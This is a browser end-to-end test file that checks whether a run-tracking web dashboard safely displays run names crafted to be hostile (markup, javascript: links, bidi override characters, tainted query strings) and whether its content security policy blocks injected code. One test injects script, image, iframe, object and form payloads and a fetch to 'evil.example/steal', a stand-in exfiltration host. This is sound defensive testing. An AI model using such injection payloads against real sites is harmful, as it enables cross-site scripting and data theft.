/** Every page with runs whose every text was chosen to harm it: nothing runs, nothing is asked of others, nothing breaks. */
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { launch, Server } from "./harness.ts";
import { CORNERS, look } from "./look.ts";

let server: Server;
let browser: Browser;
let project: string;
let texts: Readonly<Record<string, string>>;

beforeAll(async () => {
  server = await Server.start();
  browser = await launch();
  const told = await server.python(
    "import runpy; runpy.run_path('web/e2e/hostile_runs.py', run_name='__main__')",
  );
  ({ project, texts } = JSON.parse(told) as { project: string; texts: Record<string, string> });
});
afterAll(async () => {
  await browser?.close();
  await server?.stop();
});

/** Other work may share the machine. */
const SLOWLY = { timeout: 60_000 };

/** Wide and light, narrow and dark. */

const below = (path: string): string => `local/${encodeURIComponent(project)}${path}`;
const run = (name: string): string => {
  const number = Object.keys(texts).indexOf(name);
  return below(`/runs/hostile${String(number).padStart(2, "0")}`);
};

/** Visible names that turn the direction of what follows them, because nothing keeps them to themselves. */
async function leaking(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const found: string[] = [];
    const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
    while (walker.nextNode()) {
      const element = walker.currentNode.parentElement;
      if (element === null || !/[\u202d\u202e]/.test(walker.currentNode.textContent ?? "")) continue;
      const { display, unicodeBidi } = getComputedStyle(element);
      if (display === "inline" && !unicodeBidi.startsWith("isolate"))
        found.push(element.outerHTML.slice(0, 120));
    }
    return found;
  });
}

/** What a page must show of the run named by markup: as text, with its brackets. */
const shows = async (page: Page, text: string): Promise<void> => {
  await expect.poll(() => page.locator("body").textContent(), SLOWLY).toContain(text);
  expect(await leaking(page), "names that turn what follows").toEqual([]);
};

const at = (): { server: Server; browser: Browser } => ({ server, browser });

describe.each(CORNERS)("hostile texts, $theme, $width px", (looks) => {
  it("in the list of projects, and in a workspace with its list, panels, views and palette", async () => {
    await look(at(), "hostile-projects", "", "table a", looks, (page) => shows(page, project));
    await look(at(), "hostile-workspace", below(""), "figure canvas", looks, async (page) => {
      if (looks.width < 900) await page.getByRole("button", { name: "Show the runs list" }).click();
      for (const name of ["markup", "prototype", "turned"]) await shows(page, texts[name] ?? "?");
      if (looks.width < 900) return;
      await page.getByRole("button", { name: "Views", exact: true }).click();
      await shows(page, texts.svg ?? "?");
    });
    if (looks.width < 900) return;
    await look(at(), "hostile-palette", below(""), "figure canvas", looks, async (page) => {
      await page.keyboard.press("Control+k");
      await page.keyboard.type("onerror");
      await page.locator("dialog [role=option]").first().waitFor();
      await shows(page, texts.markup ?? "?");
    });
  });

  it("in a panel of its own, with a tooltip", async () => {
    const key = texts.markup ?? "?";
    const path = below(`?panel=${encodeURIComponent(key)}`);
    await look(at(), "hostile-panel", path, "dialog canvas", looks, async (page) => {
      await page.locator('dialog [role=img][aria-label*=": 1"]').waitFor();
      await page.locator("dialog [role=img]").focus();
      await page.keyboard.press("End");
      await shows(page, key);
    });
  });

  it("in the table of runs", async () => {
    await look(at(), "hostile-runs", below("/runs"), "table a, [role=grid] a", looks, (page) =>
      shows(page, texts.markup ?? "?"),
    );
  });

  it("in a comparison", async () => {
    const runs = "runs=hostile00,hostile04,hostile05,hostile08";
    await look(
      at(),
      "hostile-compare",
      below(`/compare?${runs}&base=hostile00`),
      "table",
      looks,
      async (page) => {
        await shows(page, texts.markup ?? "?");
        await shows(page, texts.turned ?? "?");
      },
    );
  });

  it("on the tabs of a run", async () => {
    const name = looks.width < 900 ? "long" : "markup";
    const text = texts[name] ?? "?";
    for (const tab of looks.width < 900 ? ["overview", "events"] : ["overview", "events", "system"])
      await look(at(), `hostile-${name}-${tab}`, `${run(name)}?tab=${tab}`, "h1", looks, async (page) => {
        await page.getByRole("link", { name: "Events" }).waitFor();
        await shows(page, text);
      });
  });

  it("on a page of charts: a name that turns what follows, a key without an end", async () => {
    const name = looks.width < 900 ? "turned" : "long";
    await look(at(), `hostile-${name}`, run(name), "figure canvas", looks, (page) =>
      shows(page, texts[name] ?? "?"),
    );
  });

  it("in addresses that somebody else has made", async () => {
    const evil = encodeURIComponent(`${texts.markup}${texts.address}`);
    const words = ["q", "hide", "pin", "base", "off", "zoom", "x", "view", "tab", "ranks", "range"];
    const query = words.map((word) => `${word}=${evil}`).join("&");
    await look(at(), "hostile-query", below(`?${query}`), "main", looks);
    await look(at(), "hostile-run-query", `${run("markup")}?${query}`, "h1", looks);
  });
});

it("says what is wrong with a filter that somebody else has put into an address, and lets it be corrected", async () => {
  const page = await browser.newPage({ viewport: { width: 1440, height: 900 } });
  await page.goto(server.link(below(`?filter=${encodeURIComponent(texts.markup ?? "?")}`)));
  await page.getByText("The filter cannot be used at column 1").first().waitFor(SLOWLY);
  expect(await page.evaluate(() => "__pwned" in window)).toBe(false);
  await page.getByRole("combobox", { name: "Filter runs" }).fill("state:failed");
  await page.locator("figure canvas").first().waitFor(SLOWLY);
  await page.close();
});

it("keeps the page when a name is an address of its own", async () => {
  const page = await browser.newPage();
  await page.goto(server.link(below("/runs")));
  await page.locator("main a", { hasText: "javascript:" }).first().waitFor();
  const links = await page
    .locator("main a")
    .evaluateAll((found) => found.map((a) => (a as HTMLAnchorElement).href));
  expect(links.length).toBeGreaterThan(8);
  for (const link of links) expect(link.startsWith(`${server.base}/local/`), link).toBe(true);
  await page.close();
});

it("has a policy under which injected code neither runs nor reports", async () => {
  const page = await browser.newPage();
  const asked: string[] = [];
  await page.route("**/*", (route) => {
    const url = route.request().url();
    if (url.startsWith(server.base)) return route.continue();
    asked.push(url);
    return route.abort();
  });
  await page.goto(server.link(below("")));
  await page.locator("figure").first().waitFor();
  await page.evaluate(async () => {
    const found: string[] = [];
    Object.assign(window, { blocked: found });
    document.addEventListener("securitypolicyviolation", (event) => found.push(event.effectiveDirective));
    const add = (html: string): void => {
      document.body.append(document.createRange().createContextualFragment(html));
    };
    add("<script>window.__pwned = 1</script>");
    add("<img src='https://evil.example/x.png'>");
    add("<iframe src='https://evil.example/'></iframe>");
    add("<object data='https://evil.example/'></object>");
    add("<script src='https://evil.example/x.js'></script>");
    add("<form action='https://evil.example/' method=post><button>go</button></form>");
    document.querySelector<HTMLFormElement>("form[action*=evil]")?.submit();
    await fetch("https://evil.example/steal").catch(() => undefined);
  });
  const blocked = (): Promise<string[]> =>
    page.evaluate(() => [...new Set((window as unknown as { blocked: string[] }).blocked)].sort());
  const kinds = ["connect-src", "form-action", "frame-src", "img-src", "object-src", "script-src-elem"];
  await expect.poll(blocked, SLOWLY).toEqual(kinds);
  expect(await page.evaluate(() => "__pwned" in window)).toBe(false);
  expect(asked).toEqual([]);
  await page.close();
});
